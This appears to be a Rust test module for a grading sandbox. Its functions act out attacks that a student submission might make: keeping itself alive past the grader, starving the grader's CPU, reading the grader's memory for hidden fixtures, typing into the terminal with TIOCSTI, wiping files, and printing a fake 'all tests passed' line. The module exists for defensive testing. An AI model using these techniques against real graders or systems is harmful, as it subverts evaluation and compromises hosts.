    for _ in 0..3 {
        let is_launcher = std::fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|raw| {
            raw.split(|&b| b == 0)
                .any(|a| a == grader::isolate::sandbox::LAUNCH_ARG.as_bytes())
        });
        if !is_launcher {
            break;
        }
        pid = ppid_of(&pid.to_string())?;
    }
    (pid > 0).then_some(pid)
}

/// Runs `f` on the grader's pid, or fails as a call on a process out of
/// sight would (`ESRCH`).
fn on_grader(f: impl FnOnce(i32) -> libc::c_long) -> std::io::Result<()> {
    match grader_pid() {
        Some(pid) => sys_result(f(pid)),
        None => Err(std::io::Error::from_raw_os_error(libc::ESRCH)),
    }
}

/// The name the `outlive-grader` attack gives itself once it is ready to
/// outlive the grader (a test waits for it in `/proc/PID/comm`).
pub const OUTLIVE_NAME: &str = "meshlab-outlive";
/// How long the `outlive-grader` attack waits before it makes its mistake.
pub const OUTLIVE_SECONDS: u64 = 60;

/// Clears its parent-death signal, so that killing the grader does not
/// kill it, renames itself [`OUTLIVE_NAME`], then waits a minute inside the
/// call (the test kills the grader meanwhile) and makes the no-flip
/// mistake.
pub fn outlive_grader(mesh: &mut Mesh) {
    // SAFETY: plain prctl calls with integer or string arguments.
    unsafe {
        report(
            "clear the parent-death signal",
            sys_result(libc::prctl(libc::PR_SET_PDEATHSIG, 0, 0, 0, 0).into()),
        );
        report(
            "become a subreaper",
            sys_result(libc::prctl(libc::PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0).into()),
        );
        let name = std::ffi::CString::new(OUTLIVE_NAME).unwrap_or_default();
        libc::prctl(libc::PR_SET_NAME, name.as_ptr(), 0, 0, 0);
    }
    let _ = std::io::stdout().flush();
    std::thread::sleep(Duration::from_secs(OUTLIVE_SECONDS));
    mistakes::no_flip(mesh);
}

/// Tries every prctl option that would undo a protection: the parent-death
/// signal, dumpable (opens `/proc/PID/mem` to the same user), a ptracer,
/// keeping capabilities, the subreaper flag, a new name for its own use
/// (allowed: the runtime names threads). Then makes the no-flip mistake.
pub fn prctl_undo(mesh: &mut Mesh) {
    // SAFETY: plain prctl calls with integer or string arguments.
    unsafe {
        let ok = |r: libc::c_int| sys_result(r.into());
        report(
            "clear the parent-death signal",
            ok(libc::prctl(libc::PR_SET_PDEATHSIG, 0, 0, 0, 0)),
        );
        report(
            "make itself dumpable",
            ok(libc::prctl(libc::PR_SET_DUMPABLE, 1, 0, 0, 0)),
        );
        report(
            "let any process trace it",
            ok(libc::prctl(
                libc::PR_SET_PTRACER,
                libc::c_ulong::MAX,
                0,
                0,
                0,
            )),
        );
        report(
            "keep capabilities across a change of user",
            ok(libc::prctl(libc::PR_SET_KEEPCAPS, 1, 0, 0, 0)),
        );
        report(
            "become a subreaper",
            ok(libc::prctl(libc::PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)),
        );
        let name = std::ffi::CString::new("meshlab-named").unwrap_or_default();
        report(
            "name its thread",
            ok(libc::prctl(libc::PR_SET_NAME, name.as_ptr(), 0, 0, 0)),
        );
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// `struct sched_attr` (the first version, 48 bytes).
#[repr(C)]
struct SchedAttr {
    size: u32,
    policy: u32,
    flags: u64,
    nice: i32,
    priority: u32,
    runtime: u64,
    deadline: u64,
    period: u64,
}

/// Starves the grader as the issue's attack starved later submissions:
/// pins it to one CPU and puts it on `SCHED_IDLE` by every call that can
/// (`sched_setattr`, `sched_setscheduler`), changes its parameters and its
/// I/O priority. Pinning itself stays allowed. Then makes the no-flip
/// mistake.
pub fn starve(mesh: &mut Mesh) {
    // SAFETY: plain system calls on structs we own.
    unsafe {
        // The first CPU it may run on (not always CPU 0 in a container).
        let size = std::mem::size_of::<libc::cpu_set_t>();
        let mut mine: libc::cpu_set_t = std::mem::zeroed();
        libc::sched_getaffinity(0, size, &mut mine);
        let first = (0..libc::CPU_SETSIZE as usize)
            .find(|&c| libc::CPU_ISSET(c, &mine))
            .unwrap_or(0);
        let mut one_cpu: libc::cpu_set_t = std::mem::zeroed();
        libc::CPU_SET(first, &mut one_cpu);
        report(
            "pin the grader to one CPU",
            on_grader(|p| libc::sched_setaffinity(p, size, &one_cpu).into()),
        );
        let idle = SchedAttr {
            size: std::mem::size_of::<SchedAttr>() as u32,
            policy: libc::SCHED_IDLE as u32,
            flags: 0,
            nice: 0,
            priority: 0,
            runtime: 0,
            deadline: 0,
            period: 0,
        };
        report(
            "put the grader on SCHED_IDLE with sched_setattr",
            on_grader(|p| libc::syscall(libc::SYS_sched_setattr, p, &idle, 0u32)),
        );
        let param = libc::sched_param { sched_priority: 0 };
        report(
            "put the grader on SCHED_IDLE with sched_setscheduler",
            on_grader(|p| libc::sched_setscheduler(p, libc::SCHED_IDLE, &param).into()),
        );
        report(
            "change the grader's scheduling parameters",
            on_grader(|p| libc::sched_setparam(p, &param).into()),
        );
        // IOPRIO_WHO_PROCESS, class IDLE.
        report(
            "lower the grader's I/O priority",
            on_grader(|p| libc::syscall(libc::SYS_ioprio_set, 1, p, 3 << 13)),
        );
        report(
            "pin itself to one CPU",
            sys_result(libc::sched_setaffinity(0, size, &one_cpu).into()),
        );
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// Watches folders for changes (inotify on `/tmp`, `/etc` and the hidden
/// fixtures, fanotify on the whole mount), which would show what other
/// cases and the grader do. Then makes the no-flip mistake.
pub fn watch_files(mesh: &mut Mesh) {
    let hidden = parent_args()
        .ok()
        .and_then(|a| arg_after(&a, "--fixtures"))
        .unwrap_or_else(|| format!("{}/../fixtures", env!("CARGO_MANIFEST_DIR")))
        + "/hidden";
    // SAFETY: plain system calls on descriptors this function owns.
    unsafe {
        #[cfg(target_arch = "x86_64")]
        {
            let fd = libc::syscall(libc::SYS_inotify_init);
            report("start watching files (inotify_init)", sys_result(fd));
            if fd >= 0 {
                libc::close(fd as i32);
            }
        }
        let fd = libc::inotify_init1(libc::IN_CLOEXEC);
        report(
            "start watching files (inotify_init1)",
            sys_result(fd.into()),
        );
        for dir in ["/tmp", "/etc", hidden.as_str()] {
            let path = std::ffi::CString::new(dir).unwrap_or_default();
            let r = if fd >= 0 {
                sys_result(libc::inotify_add_watch(fd, path.as_ptr(), libc::IN_ALL_EVENTS).into())
            } else {
                Err(std::io::Error::from_raw_os_error(libc::EBADF))
            };
            let what = if dir == hidden {
                "the hidden fixtures"
            } else {
                dir
            };
            report(&format!("watch {what}"), r);
        }
        if fd >= 0 {
            libc::close(fd);
        }
        let fan = libc::fanotify_init(libc::FAN_CLASS_NOTIF, libc::O_RDONLY as u32);
        report("watch the whole mount (fanotify)", sys_result(fan.into()));
        if fan >= 0 {
            libc::close(fan);
        }
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// What the `terminal` attack types into the terminal.
pub const TYPED: &str = "echo meshlab-typed-by-student\n";

/// Reaches for the terminal the grader runs in: whether its stdin is
/// anything but `/dev/null`, whether it shares the grader's session, leaving its process group, opening `/dev/tty` and
/// typing [`TYPED`] into it with `TIOCSTI` (as root, run after the grader
/// exits), the same through its standard descriptors, and `TIOCLINUX`.
/// Then makes the no-flip mistake.
pub fn terminal(mesh: &mut Mesh) {
    report(
        "hold something other than /dev/null on stdin",
        match std::fs::read_link("/proc/self/fd/0") {
            Ok(p) if p == std::path::Path::new("/dev/null") => {
                Err(std::io::Error::other("stdin is /dev/null"))
            }
            Ok(_) => Ok(()),
            Err(e) => Err(e),
        },
    );
    // SAFETY: plain system calls; the bytes typed are our own.
    unsafe {
        let mine = libc::getsid(0);
        report(
            "stay in the grader's session",
            match grader_pid() {
                // PID 1 is not the grader: in the case's PID namespace it
                // is the launcher's init, which shares the case's session.
                Some(p) if p > 1 && libc::getsid(p) == mine => Ok(()),
                Some(p) if libc::getsid(p) < 0 => Err(std::io::Error::last_os_error()),
                _ => Err(std::io::Error::other("a session of its own")),
            },
        );
        report(
            "leave its process group",
            sys_result(libc::setpgid(0, 0).into()),
        );
        report(
            "start a session of its own",
            sys_result(libc::setsid().into()),
        );
        let type_into = |fd: i32| -> std::io::Result<()> {
            for b in TYPED.bytes() {
                sys_result(libc::ioctl(fd, libc::TIOCSTI, &b as *const u8).into())?;
            }
            Ok(())
        };
        let tty = libc::open(c"/dev/tty".as_ptr(), libc::O_RDWR | libc::O_NOCTTY);
        report("open the terminal", sys_result(tty.into()));
        report(
            "type into the terminal",
            if tty >= 0 {
                type_into(tty)
            } else {
                Err(std::io::Error::from_raw_os_error(libc::EBADF))
            },
        );
        report(
            "type through its standard descriptors",
            (0..3)
                .map(type_into)
                .find(|r| r.is_ok())
                .unwrap_or_else(|| type_into(0)),
        );
        // TIOCL_GETSHIFTSTATE: harmless, but the same call pastes and
        // blanks the console.
        let mut sub = [6u8; 2];
        report(
            "reach the console (TIOCLINUX)",
            sys_result(
                libc::ioctl(
                    if tty >= 0 { tty } else { 0 },
                    libc::TIOCLINUX,
                    sub.as_mut_ptr(),
                )
                .into(),
            ),
        );
        if tty >= 0 {
            libc::close(tty);
        }
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// Opens the grader's `/proc/PID/mem` and reads its memory there: the
/// mappings listed in `/proc/PID/maps`, searched for a case's name (the
/// grader holds every fixture). Then makes the no-flip mistake.
pub fn grader_memory(mesh: &mut Mesh) {
    use std::os::unix::fs::FileExt;
    let Some(pid) = grader_pid() else {
        let gone = || Err(std::io::Error::from_raw_os_error(libc::ESRCH));
        report("open the grader's /proc/PID/mem", gone());
        report("find a case's name in the grader's memory", gone());
        return mistakes::no_flip(mesh);
    };
    let mem = std::fs::File::open(format!("/proc/{pid}/mem"));
    report(
        "open the grader's /proc/PID/mem",
        mem.as_ref()
            .map(drop)
            .map_err(|e| std::io::Error::from(e.kind())),
    );
    let found = mem.and_then(|mem| {
        let maps = std::fs::read_to_string(format!("/proc/{pid}/maps"))?;
        let needle = b"cube-subdivide-1";
        let mut searched = 0usize;
        for line in maps.lines().filter(|l| l.contains(" rw")) {
            let Some((start, end)) = line
                .split_whitespace()
                .next()
                .and_then(|r| r.split_once('-'))
                .and_then(|(a, b)| {
                    Some((
                        u64::from_str_radix(a, 16).ok()?,
                        u64::from_str_radix(b, 16).ok()?,
                    ))
                })
            else {
                continue;
            };
            let len = ((end - start) as usize).min(64 << 20);
            let mut buf = vec![0u8; len];
            if mem.read_exact_at(&mut buf, start).is_err() {
                continue;
            }
            searched += len;
            if buf.windows(needle.len()).any(|w| w == needle) {
                return Ok(());
            }
            if searched > 512 << 20 {
                break;
            }
        }
        Err(std::io::Error::from(std::io::ErrorKind::NotFound))
    });
    report("find a case's name in the grader's memory", found);
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// Tries the other calls that reach past the case, each harmless if it
/// got through (arguments that change nothing): a pidfd of the grader and
/// a signal 0 through it, `kcmp` with the grader, a file handle, a mount,
/// `personality`, `acct`, `swapon`, `reboot` with a wrong magic number,
/// `process_vm_writev` of nothing, `perf_event_open`, `userfaultfd`, a key.
/// Then makes the no-flip mistake.
pub fn kernel_calls(mesh: &mut Mesh) {
    // SAFETY: raw system calls whose pointers are null or our own buffers,
    // with arguments that make none of them change anything.
    unsafe {
        let call = |nr: libc::c_long, a: [libc::c_long; 5]| {
            sys_result(libc::syscall(nr, a[0], a[1], a[2], a[3], a[4]))
        };
        let pidfd = grader_pid().map_or(-1, |p| libc::syscall(libc::SYS_pidfd_open, p, 0));
        report("open a pidfd of the grader", sys_result(pidfd));
        report(
            "signal the grader through a pidfd (signal 0)",
            if pidfd >= 0 {
                call(libc::SYS_pidfd_send_signal, [pidfd, 0, 0, 0, 0])
            } else {
                Err(std::io::Error::from_raw_os_error(libc::EBADF))
            },
        );
        report(
            "take a descriptor of the grader's (pidfd_getfd)",
            if pidfd >= 0 {
                call(libc::SYS_pidfd_getfd, [pidfd, 0, 0, 0, 0])
            } else {
                Err(std::io::Error::from_raw_os_error(libc::EBADF))
            },
        );
        report(
            "compare its files with the grader's (kcmp)",
            on_grader(|p| libc::syscall(libc::SYS_kcmp, libc::getpid(), p, 0, 0, 0)),
        );
        let mut handle = [0u8; 136];
        handle[..4].copy_from_slice(&128u32.to_ne_bytes());
        let mut mount_id = 0i32;
        report(
            "make a file handle of /etc/passwd",
            sys_result(libc::syscall(
                libc::SYS_name_to_handle_at,
                libc::AT_FDCWD,
                c"/etc/passwd".as_ptr(),
                handle.as_mut_ptr(),
                &mut mount_id,
                0,
            )),
        );
        report(
            "open by file handle",
            call(
                libc::SYS_open_by_handle_at,
                [
                    libc::AT_FDCWD as libc::c_long,
                    handle.as_ptr() as libc::c_long,
                    0,
                    0,
                    0,
                ],
            ),
        );
        report("mount", call(libc::SYS_mount, [0, 0, 0, 0, 0]));
        // 0xffffffff only asks for the current personality.
        report(
            "change its personality",
            call(libc::SYS_personality, [0xffff_ffff, 0, 0, 0, 0]),
        );
        report(
            "turn process accounting",
            call(
                libc::SYS_acct,
                [c"/nonexistent".as_ptr() as libc::c_long, 0, 0, 0, 0],
            ),
        );
        report(
            "add swap",
            call(
                libc::SYS_swapon,
                [c"/nonexistent".as_ptr() as libc::c_long, 0, 0, 0, 0],
            ),
        );
        report(
            "reboot (a wrong magic number)",
            call(libc::SYS_reboot, [0, 0, 0, 0, 0]),
        );
        report(
            "write another process's memory (process_vm_writev of nothing)",
            on_grader(|p| libc::syscall(libc::SYS_process_vm_writev, p, 0, 0, 0, 0, 0)),
        );
        report(
            "open a performance counter",
            call(libc::SYS_perf_event_open, [0, 0, -1, -1, 0]),
        );
        report(
            "make a userfaultfd",
            call(libc::SYS_userfaultfd, [0, 0, 0, 0, 0]),
        );
        report(
            "add a key to a keyring",
            call(
                libc::SYS_add_key,
                [
                    c"user".as_ptr() as libc::c_long,
                    c"meshlab".as_ptr() as libc::c_long,
                    0,
                    0,
                    -2,
                ],
            ),
        );
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// The file the `file-metadata` attack changes, in [`MARK_DIR`] (a test
/// makes it, owned by the child's user, mode 0600).
pub const METADATA_TARGET: &str = "/tmp/meshlab-attack/metadata-target";

/// Changes what Landlock does not guard on a file it may not open: its
/// mode (0777), its times (1970), an extended attribute, its owner (to the
/// same user: allowed to any owner). Any file of the child's user is in
/// reach: as the grader's own user, the lab's fixtures or the child
/// program itself. Then makes the no-flip mistake.
pub fn file_metadata(mesh: &mut Mesh) {
    let path = std::ffi::CString::new(METADATA_TARGET).unwrap_or_default();
    // SAFETY: plain system calls on a C string and buffers we own.
    unsafe {
        report(
            "make a file world-writable (chmod)",
            sys_result(libc::chmod(path.as_ptr(), 0o777) as libc::c_long),
        );
        let epoch = [libc::timespec {
            tv_sec: 0,
            tv_nsec: 0,
        }; 2];
        report(
            "set a file's times (utimensat)",
            sys_result(
                libc::utimensat(libc::AT_FDCWD, path.as_ptr(), epoch.as_ptr(), 0) as libc::c_long,
            ),
        );
        report(
            "set an extended attribute (setxattr)",
            sys_result(libc::setxattr(
                path.as_ptr(),
                c"user.meshlab".as_ptr(),
                b"escaped".as_ptr().cast(),
                7,
                0,
            ) as libc::c_long),
        );
        // struct file_attr: xflags, extsize, nextents, projid, cowextsize.
        let mut flags = [0u32; 6];
        flags[0] = 0x80; // FS_XFLAG_NODUMP: no capability needed.
        report(
            "set a file's flags (file_setattr)",
            sys_result(libc::syscall(
                469,
                libc::AT_FDCWD,
                path.as_ptr(),
                flags.as_ptr(),
                24usize,
                0,
            )),
        );
        report(
            "change a file's owner (chown)",
            sys_result(libc::chown(path.as_ptr(), libc::getuid(), libc::getgid()) as libc::c_long),
        );
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// The most the `kernel-buffers` attack tries to hold, to stay polite.
const KERNEL_BUFFERS_GOAL: usize = 1 << 30;

/// Fills kernel buffers, which no address-space cap counts: socket pairs
/// (no `socket` call needed) and pipes, each written full, until the goal
/// or a refusal. Reports what it held, then subdivides right.
pub fn kernel_buffers(mesh: &mut Mesh) {
    let mut held = 0usize;
    let mut fds: Vec<i32> = Vec::new();
    let chunk = vec![7u8; 64 * 1024];
    // Writes into `fd` (non-blocking) until it is full.
    let fill = |fd: i32| -> usize {
        let mut n = 0usize;
        loop {
            // SAFETY: writes from our own buffer.
            let w = unsafe { libc::write(fd, chunk.as_ptr().cast(), chunk.len()) };
            if w <= 0 {
                return n;
            }
            n += w as usize;
        }
    };
    let mut pair = [0i32; 2];
    // SAFETY: plain system calls filling our own array.
    let first = unsafe {
        libc::socketpair(
            libc::AF_UNIX,
            libc::SOCK_STREAM | libc::SOCK_NONBLOCK,
            0,
            pair.as_mut_ptr(),
        )
    };
    report("make a socket pair", sys_result(first as libc::c_long));
    if first == 0 {
        fds.extend(pair);
        held += fill(pair[0]) + fill(pair[1]);
        while held < KERNEL_BUFFERS_GOAL {
            // SAFETY: as above.
            let r = unsafe {
                libc::socketpair(
                    libc::AF_UNIX,
                    libc::SOCK_STREAM | libc::SOCK_NONBLOCK,
                    0,
                    pair.as_mut_ptr(),
                )
            };
            if r != 0 {
                break;
            }
            fds.extend(pair);
            held += fill(pair[0]) + fill(pair[1]);
        }
    }
    while held < KERNEL_BUFFERS_GOAL {
        // SAFETY: as above.
        if unsafe { libc::pipe2(pair.as_mut_ptr(), libc::O_NONBLOCK) } != 0 {
            break;
        }
        fds.extend(pair);
        // SAFETY: asks for the largest buffer an unprivileged pipe may have.
        unsafe { libc::fcntl(pair[1], libc::F_SETPIPE_SZ, 1 << 20) };
        held += fill(pair[1]);
    }
    println!(
        "attack: held {} MiB in kernel buffers with {} descriptors",
        held >> 20,
        fds.len()
    );
    let _ = std::io::stdout().flush();
    for fd in fds {
        // SAFETY: closes descriptors this function opened.
        unsafe { libc::close(fd) };
    }
    solution::loop_subdivide(mesh);
}

/// The System V message queue key the `ipc-by-id` attack looks for (a
/// test makes the queue, open to all, as another user would).
pub const MSG_KEY: i32 = 0x4d4c_0010;

/// `shmctl`'s "by index" command (Linux's, not in every C library's header).
const SHM_STAT: i32 = 13;

/// Reaches System V objects it did not make, by id, with no `msgget` or
/// `shmget`: finds each queue by its index (`MSG_STAT`) and sends the word
/// "escaped" to it; does the same for shared memory (`SHM_STAT`, then
/// attaches). Then makes the no-flip mistake.
pub fn ipc_by_id(mesh: &mut Mesh) {
    // SAFETY: plain System V calls into buffers we own; an attached
    // segment is only written within its size.
    unsafe {
        let mut sent = Err(std::io::Error::from_raw_os_error(libc::ENOENT));
        let mut info: libc::msqid_ds = std::mem::zeroed();
        for index in 0..256 {
            let id = libc::msgctl(index, libc::MSG_STAT, &mut info);
            if id < 0 {
                if std::io::Error::last_os_error().raw_os_error() != Some(libc::EINVAL) {
                    sent = Err(std::io::Error::last_os_error());
                }
                continue;
            }
            #[repr(C)]
            struct Message {
                kind: libc::c_long,
                text: [u8; 7],
            }
            let m = Message {
                kind: 1,
                text: *b"escaped",
            };
            sent = sys_result(
                libc::msgsnd(id, (&m as *const Message).cast(), 7, libc::IPC_NOWAIT)
                    as libc::c_long,
            );
        }
        report("send to a message queue found by index", sent);
        let mut attached = Err(std::io::Error::from_raw_os_error(libc::ENOENT));
        let mut shm: libc::shmid_ds = std::mem::zeroed();
        for index in 0..256 {
            let id = libc::shmctl(index, SHM_STAT, &mut shm);
            if id < 0 {
                if std::io::Error::last_os_error().raw_os_error() != Some(libc::EINVAL) {
                    attached = Err(std::io::Error::last_os_error());
                }
                continue;
            }
            let p = libc::shmat(id, std::ptr::null(), libc::SHM_RDONLY);
            attached = if p as isize == -1 {
                Err(std::io::Error::last_os_error())
            } else {
                libc::shmdt(p);
                Ok(())
            };
        }
        report("attach shared memory found by index", attached);
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// Tries, one after another, what a fresh look at the sandbox found and
/// the filter or the limits should stop: running a shell, a program of its
/// own from a `memfd`, a thread bomb, raising its limits, naming the
/// hidden fixtures' files by the child program's path, opening the
/// grader's end of its pipes through `/proc/self/fd`, signalling every
/// process, `/dev/shm`. Then makes the no-flip mistake.
pub fn probes(mesh: &mut Mesh) {
    use std::os::unix::ffi::OsStrExt;
    // SAFETY: raw system calls on C strings and buffers we own.
    unsafe {
        let argv = [
            c"sh".as_ptr(),
            c"-c".as_ptr(),
            c"true".as_ptr(),
            std::ptr::null(),
        ];
        let envp = [std::ptr::null::<libc::c_char>()];
        report(
            "run a shell (execve /bin/sh)",
            sys_result(
                libc::execve(c"/bin/sh".as_ptr(), argv.as_ptr(), envp.as_ptr()) as libc::c_long,
            ),
        );
        // The file-size limit's signal would end the probes here.
        libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
        let memfd = libc::memfd_create(c"own".as_ptr(), 0);
        report("make a memfd", sys_result(memfd as libc::c_long));
        if memfd >= 0 {
            report(
                "grow a memfd past the memory cap (fallocate 4 GiB)",
                sys_result(libc::fallocate(memfd, 0, 0, 4 << 30) as libc::c_long),
            );
        }
        let raise = libc::rlimit {
            rlim_cur: libc::RLIM_INFINITY,
            rlim_max: libc::RLIM_INFINITY,
        };
        report(
            "raise its memory cap (setrlimit)",
            sys_result(libc::setrlimit(libc::RLIMIT_AS, &raise) as libc::c_long),
        );
        report(
            "signal every process (kill -1, signal 0)",
            sys_result(libc::kill(-1, 0) as libc::c_long),
        );
        let attr: [u32; 12] = [48, libc::SCHED_FIFO as u32, 0, 0, 0, 99, 0, 0, 0, 0, 0, 0];
        report(
            "take a real-time priority (sched_setattr FIFO)",
            sys_result(libc::syscall(libc::SYS_sched_setattr, 0, attr.as_ptr(), 0)),
        );
        let hard = |r| {
            let mut l: libc::rlimit = std::mem::zeroed();
            libc::getrlimit(r, &mut l);
            l.rlim_max
        };
        println!(
            "attack: priority limits (real-time, nice): {} {}",
            hard(libc::RLIMIT_RTPRIO),
            hard(libc::RLIMIT_NICE)
        );
        // SCHED_OTHER at nice -20 (the nice field is signed).
        let attr: [u32; 12] = [48, 0, 0, 0, (-20i32) as u32, 0, 0, 0, 0, 0, 0, 0];
        report(
            "raise its priority (sched_setattr nice -20)",
            sys_result(libc::syscall(libc::SYS_sched_setattr, 0, attr.as_ptr(), 0)),
        );
        report(
            "open /dev/shm",
            sys_result(
                libc::open(c"/dev/shm".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY)
                    as libc::c_long,
            ),
        );
        report(
            "read its stdout pipe back (/proc/self/fd/1)",
            sys_result(libc::open(
                c"/proc/self/fd/1".as_ptr(),
                libc::O_RDONLY | libc::O_NONBLOCK,
            ) as libc::c_long),
        );
        report(
            "write its OOM score (/proc/self/oom_score_adj)",
            std::fs::write("/proc/self/oom_score_adj", "1000"),
        );
    }
    // What the child's mounts say of where they came from: each mount's
    // root in its source filesystem, and where it is mounted.
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    println!(
        "attack: mounts: {}",
        mounts
            .lines()
            .filter_map(|l| {
                let fields: Vec<&str> = l.split(' ').collect();
                Some(format!("{} on {}", fields.get(3)?, fields.get(4)?))
            })
            .collect::<Vec<_>>()
            .join("; ")
    );
    // The lab's folder, from the child program's own path.
    let exe = std::fs::read_link("/proc/self/exe");
    println!("attack: the child program is {exe:?}");
    let mut found = Vec::new();
    if let Ok(exe) = exe {
        for dir in exe.ancestors() {
            let hidden = dir.join("fixtures/hidden");
            if std::fs::metadata(&hidden).is_ok() {
                found.push(hidden.as_os_str().as_bytes().to_vec());
            }
        }
    }
    println!(
        "attack: hidden fixture folders seen by stat: {}",
        found
            .iter()
            .map(|f| String::from_utf8_lossy(f).into_owned())
            .collect::<Vec<_>>()
            .join(", ")
    );
    // Paths known without looking: the lab's own (compiled in), the
    // machine's usual folders.
    let known = [
        concat!(env!("CARGO_MANIFEST_DIR"), "/../fixtures/hidden"),
        env!("CARGO_MANIFEST_DIR"),
        "/tmp",
        "/etc/passwd",
        "/root",
        "/home",
        "/usr/bin",
    ];
    println!(
        "attack: known paths seen by stat: {}",
        known
            .iter()
            .filter(|p| std::fs::symlink_metadata(p).is_ok())
            .copied()
            .collect::<Vec<_>>()
            .join(", ")
    );
    report(
        "list the hidden fixtures",
        found
            .first()
            .map_or(Err(std::io::ErrorKind::NotFound.into()), |f| {
                std::fs::read_dir(std::ffi::OsStr::from_bytes(f)).map(|_| ())
            }),
    );
    let mut threads = 0;
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut handles = Vec::new();
    while threads < 5000 {
        let stop = stop.clone();
        match std::thread::Builder::new()
            .stack_size(64 << 10)
            .spawn(move || {
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    std::thread::sleep(Duration::from_millis(10));
                }
            }) {
            Ok(h) => handles.push(h),
            Err(_) => break,
        }
        threads += 1;
    }
    println!("attack: started {threads} threads");
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    for h in handles {
        let _ = h.join();
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// The folder the `wipe-files` attack works in, in [`MARK_DIR`] (a test
/// makes it, owned by the child's user, with a file `victim` in it).
pub const WIPE_DIR: &str = "/tmp/meshlab-attack/wipe";

/// Destroys files of the child's user by every call that does not grow
/// one (what `RLIMIT_FSIZE` does not stop): opens one to truncate it,
/// truncates it by path, renames, links, unlinks it, makes a folder, a
/// symbolic link and a node. Landlock stops each; without it, as a TA's
/// own user, the lab would be wiped. Then makes the no-flip mistake.
pub fn wipe_files(mesh: &mut Mesh) {
    let c = |name: &str| std::ffi::CString::new(format!("{WIPE_DIR}/{name}")).unwrap_or_default();
    let (victim, moved, made) = (c("victim"), c("moved"), c("made"));
    // SAFETY: plain system calls on C strings we own.
    unsafe {
        let fd = libc::open(victim.as_ptr(), libc::O_WRONLY | libc::O_TRUNC);
        report(
            "open a file to empty it (O_TRUNC)",
            sys_result(fd as libc::c_long),
        );
        if fd >= 0 {
            libc::close(fd);
        }
        let fd = libc::open(victim.as_ptr(), libc::O_RDONLY | libc::O_CREAT, 0o644);
        report("open a file with O_CREAT", sys_result(fd as libc::c_long));
        if fd >= 0 {
            libc::close(fd);
        }
        report(
            "truncate a file by path",
            sys_result(libc::truncate(victim.as_ptr(), 0) as libc::c_long),
        );
        report(
            "link a file",
            sys_result(libc::link(victim.as_ptr(), made.as_ptr()) as libc::c_long),
        );
        report(
            "rename a file",
            sys_result(libc::rename(victim.as_ptr(), moved.as_ptr()) as libc::c_long),
        );
        report(
            "remove a file",
            sys_result(libc::unlink(victim.as_ptr()) as libc::c_long),
        );
        report(
            "make a folder",
            sys_result(libc::mkdir(made.as_ptr(), 0o755) as libc::c_long),
        );
        report(
            "make a symbolic link",
            sys_result(libc::symlink(c"/".as_ptr(), made.as_ptr()) as libc::c_long),
        );
        report(
            "make a named pipe",
            sys_result(libc::mknod(made.as_ptr(), libc::S_IFIFO | 0o644, 0) as libc::c_long),
        );
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// Prints the grader's success line, then makes the no-flip mistake.
fn sub_fake_verdict(mesh: &mut Mesh) {
    println!("grade.rs:1 [info] all tests passed, congratulations!");
    mistakes::no_flip(mesh);
}
